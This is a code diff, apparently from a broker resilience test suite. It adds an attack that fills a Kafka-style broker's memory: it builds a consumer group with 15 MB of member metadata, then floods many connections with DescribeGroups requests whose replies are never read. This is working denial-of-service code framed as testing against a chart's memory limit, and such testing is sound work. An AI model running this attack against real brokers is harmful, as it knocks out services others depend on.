@@ -5,19 +5,20 @@ while the bystander produces 300 kB, commits offsets and fetches.
 from __future__ import annotations
 
 import contextlib
+import select
 import selectors
 import socket
 import struct
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from typing import Final
 
-from attack.attacks import Attack, Target
+from attack.attacks import DESCRIBE_GROUPS, JOIN_GROUP, Attack, Target, await_coordinator
 from brokerlab.raw_client import frame, request_header
 
 ATTACK_S: Final = 20.0
 USER, PASSWORD = "mallory", "secret"
-SASL_HANDSHAKE, SASL_AUTHENTICATE = 17, 36
+SYNC_GROUP, SASL_HANDSHAKE, SASL_AUTHENTICATE = 14, 17, 36
 PLAIN_MODULE: Final = "org.apache.kafka.common.security.plain.PlainLoginModule"
 CHART_LIMIT_MB: Final = 2_048
 """The memory of a broker in the chart (`broker.resources.limits.memory` in charts/tidelog/values.yaml)."""
@@ -53,8 +54,7 @@ def log_in(connection: socket.socket) -> None:
         (SASL_AUTHENTICATE, 0, struct.pack(">i", len(token)) + token),
     ):
         connection.sendall(frame(request_header(key, version, 1, False) + body))
-        (size,) = struct.unpack(">i", connection.recv(4, socket.MSG_WAITALL))
-        connection.recv(size, socket.MSG_WAITALL)
+        read_frame(connection)
 
 
 def _addresses(count: int) -> list[str]:
@@ -115,6 +115,89 @@ def hold_frames(
     return f"{sent / 1e6:,.0f} MB sent over {count} connections; {closed:,} closed"
 
 
+@contextlib.contextmanager
+def large_group(
+    target: Target, group_id: str, members: int = 15, member_bytes: int = 1_000_000
+) -> Iterator[None]:
+    """Keeps a stable group whose description has as many megabytes as it has members."""
+    await_coordinator(target, group_id)
+    host, port = target.broker.bootstrap.rsplit(":", 1)
+    name = struct.pack(">h", len(group_id)) + group_id.encode()
+    join = (
+        name
+        + struct.pack(">iih", 300_000, 300_000, 0)
+        + struct.pack(">h8sih5si", 8, b"consumer", 1, 5, b"range", member_bytes)
+    )
+    with contextlib.ExitStack() as stack:
+        joined = [stack.enter_context(connect((host, int(port)), "127.0.1.1")) for _ in range(members)]
+        for connection in joined:
+            connection.settimeout(60)
+            connection.sendall(frame(request_header(JOIN_GROUP, 2, 1, False) + join + bytes(member_bytes)))
+        for connection in joined:
+            answer = read_frame(connection)
+            code, generation = struct.unpack_from(">hi", answer, 8)
+            assert not code, code
+            at = 14
+            texts = []
+            for _ in range(3):  # protocol, leader, member
+                (size,) = struct.unpack_from(">h", answer, at)
+                texts.append(answer[at : at + 2 + size])
+                at += 2 + size
+            sync = name + struct.pack(">i", generation) + texts[2] + struct.pack(">i", 0)
+            connection.sendall(frame(request_header(SYNC_GROUP, 1, 2, False) + sync))
+        for connection in joined:
+            read_frame(connection)
+        yield
+
+
+def read_frame(connection: socket.socket) -> bytes:
+    (size,) = struct.unpack(">i", _read(connection, 4))
+    return _read(connection, size)
+
+
+def _read(connection: socket.socket, size: int) -> bytes:
+    data = bytearray()
+    while len(data) < size:
+        part = connection.recv(size - len(data))
+        if not part:
+            raise ConnectionResetError("the broker closed the connection")
+        data += part
+    return bytes(data)
+
+
+def leave_unread(target: Target, count: int, addresses: int = 1, *, logs_in: bool = False) -> str:
+    """Asks for descriptions of a large group over many connections and reads none of them."""
+    sources = _addresses(addresses)
+    where = target.sasl_address if logs_in else target.broker.bootstrap
+    host, port = where.rsplit(":", 1)
+    ask = frame(request_header(DESCRIBE_GROUPS, 0, 1, False) + struct.pack(">ih5s", 1, 5, b"large")) * 64
+    opened = closed = 0
+    with large_group(target, "large"), contextlib.ExitStack() as stack:
+        until = time.monotonic() + max(ATTACK_S * target.scale, 5)
+        asking: list[socket.socket] = []
+        while time.monotonic() < until:
+            while len(asking) < target.count(count):
+                connection = stack.enter_context(connect((host, int(port)), sources[opened % len(sources)]))
+                opened += 1
+                with contextlib.suppress(OSError):
+                    if logs_in:
+                        log_in(connection)
+                    connection.sendall(ask)
+                asking.append(connection)
+            time.sleep(0.2)
+            gone = [connection for connection in asking if _has_ended(connection)]
+            closed += len(gone)
+            asking = [connection for connection in asking if connection not in gone]
+    return f"{opened:,} connections opened, {closed:,} closed"
+
+
+def _has_ended(connection: socket.socket) -> bool:
+    """Returns whether the broker has closed the connection, without reading from it."""
+    poller = select.poll()
+    poller.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
+    return bool(poller.poll(0))
+
+
 def _holding(
     name: str, title: str, run: Callable[[Target], str], bound_mb: float = CHART_LIMIT_MB - 256
 ) -> Attack:
@@ -138,5 +221,20 @@ FILLING_ATTACKS: Final = (
         lambda target: hold_frames(
             target, MAX_CONNECTIONS, 2_000_000, 1_900_000, addresses=200, logs_in=True
         ),
+    ),
+    _holding(
+        "unread-1",
+        "64 DescribeGroups of a group with 15 MB in one connection that reads nothing",
+        lambda target: leave_unread(target, 1),
+    ),
+    _holding(
+        "unread-600",
+        "the same in 600 connections",
+        lambda target: leave_unread(target, MAX_CONNECTIONS),
+    ),
+    _holding(
+        "unread-user",
+        "the same in 200 connections of a user with 200 addresses",
+        lambda target: leave_unread(target, 200, addresses=200, logs_in=True),
     ),
 )
